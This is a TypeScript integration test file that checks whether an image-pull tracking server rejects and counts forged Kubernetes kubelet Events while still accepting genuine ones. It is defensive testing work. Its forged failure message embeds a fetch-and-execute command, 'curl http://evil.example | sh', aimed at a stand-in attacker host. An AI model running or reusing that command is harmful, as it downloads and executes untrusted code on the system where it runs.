// Kubelet facts checked against the pod, end to end: a real server, the fake API server, and Events
// shaped exactly like the kubelet's but forged (wrong node, absent pod, an image the pod does not
// run, a failure the pod's status does not show). Each changes nothing and is counted; the real
// kubelet's sequence (its Events, then its status) still fails and completes pulls.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { PullStatus } from '../../src/model/index.js';
import {
  FakeKubeApi,
  FakeKubelet,
  KUBE_TEST_SERVER_FLAGS,
  kubeletEvent,
  kubeletMessages,
  layer,
  MiB,
  type PulltraceProcess,
  podObject,
  postReport,
  pullEntry,
  startPulltrace,
  waitFor,
  writeKubeconfig,
} from '../kit/index.js';

const IMAGE = '127.0.0.1:5000/shop/web:1.0';
let kube: FakeKubeApi;
let server: PulltraceProcess;
let dir: string;

before(async () => {
  kube = await FakeKubeApi.start();
  dir = mkdtempSync(join(tmpdir(), 'pulltrace-forged-'));
  server = await startPulltrace(['server', ...KUBE_TEST_SERVER_FLAGS, '--log-level', 'debug'], {
    env: { KUBECONFIG: await writeKubeconfig(dir, kube.url) },
  });
});

after(async () => {
  await server?.stop();
  await kube?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function pulls(): Promise<PullStatus[]> {
  return ((await (await fetch(`${server.baseUrl}/api/v1/pulls`)).json()) as { pulls: PullStatus[] }).pulls;
}

async function rejected(reason: string): Promise<number> {
  const text = await (await fetch(server.metricsUrl)).text();
  const m = new RegExp(`^pulltrace_kube_events_rejected_total\\{reason="${reason}"\\} (\\d+)$`, 'm').exec(text);
  return m ? Number(m[1]) : Number.NaN;
}

async function errorsTotal(): Promise<number> {
  const m = /^pulltrace_pull_errors_total (\d+)$/m.exec(await (await fetch(server.metricsUrl)).text());
  return Number(m?.[1] ?? 0);
}

test('forged Events (wrong node, absent pod, image not in the pod, pod not failing a pull) change nothing and are counted', async () => {
  // Real pulls on two nodes, as their agents report them.
  for (const node of ['node-a', 'node-b']) {
    const res = await postReport(server.baseUrl, {
      nodeName: node,
      pulls: [pullEntry('127.0.0.1/shop/web', `sha256:m-${node}`, [layer(`sha256:l-${node}`, 8 * MiB, MiB)])],
    });
    assert.equal(res.status, 200);
  }
  const web = kube.apply(podObject({ name: 'web', namespace: 'shop', nodeName: 'node-a', containers: [{ name: 'app', image: IMAGE }] }));
  const running = kube.apply(
    podObject({
      name: 'cache',
      namespace: 'shop',
      nodeName: 'node-a',
      containers: [{ name: 'app', image: 'redis:7', state: { running: {} } }],
    }),
  );
  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-a')?.pods?.length === 1, {
    timeoutMs: 10_000,
    what: 'the server to see the pod waiting on the node-a pull',
  });
  const before = {
    wrong: await rejected('wrong_node'),
    absent: await rejected('pod_absent'),
    image: await rejected('image_not_in_pod'),
    status: await rejected('pod_not_waiting_on_pull'),
    errors: await errorsTotal(),
  };
  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';

  // 1. The pod is on node-a; the event claims node-b (whose pull it would fail).
  kube.apply(kubeletEvent({ pod: web, container: 'app', node: 'node-b', reason: 'Failed', message: kubeletMessages.failed(IMAGE, crit) }));
  // 2. No such pod.
  kube.apply(
    kubeletEvent({
      pod: { name: 'ghost', namespace: 'shop' },
      container: 'app',
      node: 'node-a',
      reason: 'Failed',
      message: kubeletMessages.failed(IMAGE, crit),
    }),
  );
  // 3. The pod does not run the image the event names (a Pulled would complete another pull).
  kube.apply(
    kubeletEvent({
      pod: web,
      container: 'app',
      node: 'node-a',
      reason: 'Pulled',
      message: kubeletMessages.pulled('127.0.0.1:5000/shop/other:2', { seconds: 1 }),
    }),
  );
  // 4. A failure for an image with no pull: it would create a failed pull, but the pod runs fine.
  kube.apply(
    kubeletEvent({ pod: running, container: 'app', node: 'node-a', reason: 'Failed', message: kubeletMessages.failed('redis:7', crit) }),
  );

  await waitFor(async () => (await rejected('wrong_node')) === before.wrong + 1, {
    timeoutMs: 30_000,
    what: 'the wrong-node event to be rejected',
  });
  await waitFor(async () => (await rejected('pod_absent')) === before.absent + 1, {
    timeoutMs: 30_000,
    what: 'the absent-pod event to be rejected',
  });
  await waitFor(async () => (await rejected('image_not_in_pod')) === before.image + 1, {
    timeoutMs: 30_000,
    what: 'the wrong-image event to be rejected',
  });
  await waitFor(async () => (await rejected('pod_not_waiting_on_pull')) === before.status + 1, {
    timeoutMs: 40_000,
    what: 'the failure the pod status never showed to be rejected',
  });

  const now = await pulls();
  assert.deepEqual(
    now.map((p) => `${p.nodeName}:${p.status}`).sort(),
    ['node-a:pulling', 'node-b:pulling'],
    'no pull failed, completed or created',
  );
  assert.ok(!now.some((p) => p.error?.includes('evil')));
  assert.equal(await errorsTotal(), before.errors, 'no failure counted');
  const debug = server.logs().filter((l) => l.msg === 'kubelet event not believed: its pod does not agree; nothing changed');
  assert.deepEqual(debug.map((l) => l.reason).sort(), ['image_not_in_pod', 'pod_absent', 'pod_not_waiting_on_pull', 'wrong_node']);
  assert.ok(debug.every((l) => l.level === 'debug' || l.level === 20));
});

test("the kubelet's own sequence still fails a pull it never started, and completes a running one", async () => {
  const kubelet = new FakeKubelet(kube, 'node-c');
  // A bad tag: no bytes ever, the kubelet writes its Events and then the pod's status.
  const bad = kubelet.schedule({ name: 'api', namespace: 'shop', containers: [{ name: 'app', image: '127.0.0.1:5000/shop/api:nope' }] });
  kubelet.pulling(bad, 'app');
  kubelet.failPull(bad, 'app', 'rpc error: code = NotFound desc = failed to pull and unpack image: not found');
  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-c' && p.status === 'failed'), {
    timeoutMs: 30_000,
    what: 'the failed pull the kubelet reported',
  });
  assert.equal(failed.imageRef, '127.0.0.1:5000/shop/api:nope');
  assert.match(failed.error ?? '', /not found/);

  // A pull the agent reports, completed by kubelet's Pulled.
  const res = await postReport(server.baseUrl, {
    nodeName: 'node-c',
    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-node-c', [layer('sha256:l-node-c', 8 * MiB, 4 * MiB)])],
  });
  assert.equal(res.status, 200);
  const web = kubelet.schedule({ name: 'web-c', namespace: 'shop', containers: [{ name: 'app', image: IMAGE }] });
  kubelet.pulling(web, 'app');
  kubelet.pulled(web, 'app', { seconds: 3, bytes: 8 * MiB });
  const done = await waitFor(async () => (await pulls()).find((p) => p.manifestDigest === 'sha256:m-node-c' && p.status === 'completed'), {
    timeoutMs: 20_000,
    what: "kubelet's Pulled to complete the pull",
  });
  assert.equal(done.nodeName, 'node-c');
});

test("an Event written in one namespace about another namespace's pod changes nothing and is counted at once", async () => {
  const node = 'node-x';
  await postReport(server.baseUrl, {
    nodeName: node,
    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-x', [layer('sha256:l-x', 8 * MiB, MiB)])],
  });
  // The victim's pod shows a failing pull: an Event from its own namespace would be believed.
  const victim = kube.apply(
    podObject({
      name: 'web-x',
      namespace: 'shop',
      nodeName: node,
      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ErrImagePull', message: 'i/o timeout' } } }],
    }),
  );
  await waitFor(async () => (await pulls()).find((p) => p.nodeName === node)?.pods?.length === 1, {
    timeoutMs: 10_000,
    what: 'the server to see the pod waiting on the node-x pull',
  });
  const before = await rejected('foreign_namespace');
  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';
  kube.apply(
    kubeletEvent({
      pod: victim,
      container: 'app',
      node,
      reason: 'Failed',
      message: kubeletMessages.failed(IMAGE, crit),
      eventNamespace: 'attacker',
    }),
  );
  await waitFor(async () => (await rejected('foreign_namespace')) === before + 1, {
    timeoutMs: 20_000,
    what: 'the Event from namespace attacker to be refused',
  });
  const after = (await pulls()).find((p) => p.nodeName === node);
  assert.equal(after?.status, 'pulling');
  assert.ok(!after?.error?.includes('evil'));

  // The same Event in the pod's own namespace is the kubelet's: the pull fails with its text.
  const genuine = 'failed to pull and unpack image: i/o timeout';
  kube.apply(kubeletEvent({ pod: victim, container: 'app', node, reason: 'Failed', message: kubeletMessages.failed(IMAGE, genuine) }));
  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === node && p.status === 'failed'), {
    timeoutMs: 20_000,
    what: 'the genuine Event to fail the pull',
  });
  assert.match(failed.error ?? '', /i\/o timeout/);
});

test('a forged fail, complete or refine naming a pod that never waited on the pull, or one its status does not confirm, changes nothing; dropped and counted after the wait', async () => {
  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';
  // node-y: a pull in progress, its pod waiting; node-z: a pull the agent failed, its pod showing it.
  await postReport(server.baseUrl, {
    nodeName: 'node-y',
    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-y', [layer('sha256:l-y', 8 * MiB, MiB)])],
  });
  await postReport(server.baseUrl, {
    nodeName: 'node-z',
    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-z', [layer('sha256:l-z', 8 * MiB, MiB)], { status: 'failed', error: 'i/o timeout' })],
  });
  const webY = kube.apply(podObject({ name: 'web-y', namespace: 'shop', nodeName: 'node-y', containers: [{ name: 'app', image: IMAGE }] }));
  kube.apply(
    podObject({
      name: 'web-z',
      namespace: 'shop',
      nodeName: 'node-z',
      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ImagePullBackOff', message: 'Back-off pulling image' } } }],
    }),
  );
  // Pods that run the same image on those nodes, started long ago: they never waited on these pulls.
  const running = (name: string, nodeName: string) =>
    kube.apply(podObject({ name, namespace: 'shop', nodeName, containers: [{ name: 'app', image: IMAGE, state: { running: {} } }] }));
  const cacheY = running('cache-y', 'node-y');
  const cacheZ = running('cache-z', 'node-z');
  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-y')?.pods?.length === 1, {
    timeoutMs: 10_000,
    what: 'the server to see web-y waiting on the node-y pull',
  });
  const before = { notOnPull: await rejected('pod_not_on_pull'), notConfirmed: await rejected('pod_not_waiting_on_pull') };

  const event = (pod: typeof webY, node: string, reason: string, message: string) =>
    kube.apply(kubeletEvent({ pod, container: 'app', node, reason, message }));
  event(cacheY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, crit)); // fail
  event(cacheY, 'node-y', 'Pulled', kubeletMessages.pulled(IMAGE, { seconds: 1 })); // complete
  event(cacheZ, 'node-z', 'Failed', kubeletMessages.failed(IMAGE, crit)); // refine
  event(webY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, crit)); // its pod waits, but its status shows no failure

  await waitFor(async () => (await rejected('pod_not_on_pull')) === before.notOnPull + 3, {
    timeoutMs: 40_000,
    what: 'the three Events naming pods that never waited on the pulls to be dropped',
  });
  await waitFor(async () => (await rejected('pod_not_waiting_on_pull')) === before.notConfirmed + 1, {
    timeoutMs: 40_000,
    what: 'the failure the pod status never showed to be dropped',
  });
  const now = await pulls();
  assert.equal(now.find((p) => p.manifestDigest === 'sha256:m-y')?.status, 'pulling', 'not failed, not completed');
  assert.equal(now.find((p) => p.manifestDigest === 'sha256:m-z')?.error, 'i/o timeout', 'error text not rewritten');
  assert.ok(!now.some((p) => p.error?.includes('evil')));

  // kubelet's own failure of web-y: the Event, then the status. It still fails the pull.
  event(webY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, 'failed to pull and unpack image: not found'));
  kube.apply(
    podObject({
      name: 'web-y',
      namespace: 'shop',
      uid: webY.metadata.uid as string,
      nodeName: 'node-y',
      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } }],
    }),
  );
  const failed = await waitFor(async () => (await pulls()).find((p) => p.manifestDigest === 'sha256:m-y' && p.status === 'failed'), {
    timeoutMs: 20_000,
    what: "kubelet's confirmed failure to fail the node-y pull",
  });
  assert.match(failed.error ?? '', /not found/);
});

test('a flood of Events from one namespace does not push a genuine failure of another namespace out of the hold queue', async () => {
  const before = await rejected('hold_quota');
  // A pod whose failure is real and shown: its Event, written after everything below, marks when
  // the server has read them all.
  const marker = kube.apply(
    podObject({
      name: 'marker-q',
      namespace: 'shop',
      nodeName: 'node-m',
      containers: [
        { name: 'app', image: '127.0.0.1:5000/shop/marker:q', state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } },
      ],
    }),
  );
  // 6,000 forged failures about pods that do not exist, all written in namespace flood: each would
  // wait 10 s for its pod (more than the 5,000 every namespace together may hold).
  const FLOOD = 6_000;
  for (let i = 0; i < FLOOD; i++) {
    kube.apply(
      kubeletEvent({
        pod: { name: `ghost-${i}`, namespace: 'flood' },
        container: 'app',
        node: 'node-q',
        reason: 'Failed',
        message: kubeletMessages.failed(`127.0.0.1:5000/flood/x:${i}`, 'not found'),
      }),
    );
  }
  // kubelet's real failure in namespace shop, its Event read before the pod watch shows the pod.
  const bad = '127.0.0.1:5000/shop/queue:nope';
  kube.apply(
    kubeletEvent({
      pod: { name: 'queue-1', namespace: 'shop', uid: 'queue-1-uid' },
      container: 'app',
      node: 'node-q',
      reason: 'Failed',
      message: kubeletMessages.failed(bad, 'failed to resolve reference: not found'),
    }),
  );
  kube.apply(
    kubeletEvent({
      pod: marker,
      container: 'app',
      node: 'node-m',
      reason: 'Failed',
      message: kubeletMessages.failed('127.0.0.1:5000/shop/marker:q', 'not found'),
    }),
  );
  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-m' && p.status === 'failed'), {
    timeoutMs: 60_000,
    what: 'the server to read every Event up to the marker',
  });
  kube.apply(
    podObject({
      name: 'queue-1',
      namespace: 'shop',
      uid: 'queue-1-uid',
      nodeName: 'node-q',
      containers: [{ name: 'app', image: bad, state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } }],
    }),
  );
  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-q' && p.status === 'failed'), {
    timeoutMs: 20_000,
    what: "the genuine failure from namespace shop, held while namespace flood's Events filled their share, to show",
  });
  assert.equal(failed.imageRef, bad);
  const quota = (await rejected('hold_quota')) - before;
  assert.ok(quota > 0 && quota <= FLOOD - 250, `namespace flood's Events beyond its share of 250 are counted (${quota})`);
});

test('failed pulls created from kubelet Events obey PULLTRACE_MAX_NODES; the refused ones are counted', async () => {
  const capped = await startPulltrace(['server', ...KUBE_TEST_SERVER_FLAGS, '--max-nodes', '2'], {
    env: { KUBECONFIG: await writeKubeconfig(dir, kube.url) },
  });
  try {
    const capacity = async () => {
      const m = /^pulltrace_kube_events_rejected_total\{reason="capacity"\} (\d+)$/m.exec(await (await fetch(capped.metricsUrl)).text());
      return Number(m?.[1] ?? Number.NaN);
    };
    const before = await capacity();
    for (const node of ['cap-1', 'cap-2', 'cap-3']) {
      const kubelet = new FakeKubelet(kube, node);
      const pod = kubelet.schedule({
        name: `api-${node}`,
        namespace: 'shop',
        containers: [{ name: 'app', image: `127.0.0.1:5000/shop/${node}:nope` }],
      });
      kubelet.failPull(pod, 'app', 'rpc error: code = NotFound desc = not found');
    }
    await waitFor(async () => (await capacity()) > before, { timeoutMs: 30_000, what: 'a failed pull beyond --max-nodes 2 to be refused' });
    const shown = ((await (await fetch(`${capped.baseUrl}/api/v1/pulls`)).json()) as { pulls: PullStatus[] }).pulls;
    assert.equal(new Set(shown.map((p) => p.nodeName)).size, 2, 'two nodes, no more');
    assert.ok(shown.every((p) => p.status === 'failed'));
  } finally {
    await capped.stop();
  }
});
